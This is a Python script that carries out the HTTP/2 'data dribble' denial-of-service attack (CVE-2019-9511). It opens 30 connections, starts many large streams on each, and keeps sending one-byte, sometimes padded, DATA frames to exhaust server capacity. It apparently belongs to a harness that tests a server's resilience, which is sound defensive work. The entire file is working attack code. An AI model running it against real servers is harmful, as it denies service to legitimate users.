#!/usr/bin/python3
"""Data dribble: many connections that each begin many large messages and send a byte of each now and then, in frames of one byte
(CVE-2019-9511), padded or not. They hold room, and let nobody else have it."""
from attacker import Peer, h2, headers, main

MARK = ("worker.room_waits",)
ENDED = False
MESSAGE = b"\0" + (1 << 20).to_bytes(4, "big")


def attack(run):
    peers = [Peer(run) for _ in range(30)]
    for peer in peers:
        peer.send(b"".join(headers(s) + h2.frame(h2.DATA, 0, s, MESSAGE + b"\x0a") for s in range(1, 100, 2)), 100)
    turn = 0
    while run.going():
        for i, peer in enumerate(peers):
            piece = (0, b"x") if (i + turn) % 2 else (h2.PADDED, b"\xc8x" + bytes(200))
            peer.send(b"".join(h2.frame(h2.DATA, piece[0], s, piece[1]) for s in range(1, 100, 2)), 50)
        turn += 1
        peers[0].wait(0.05)
    for peer in peers:
        peer.close()


if __name__ == "__main__":
    main(attack)
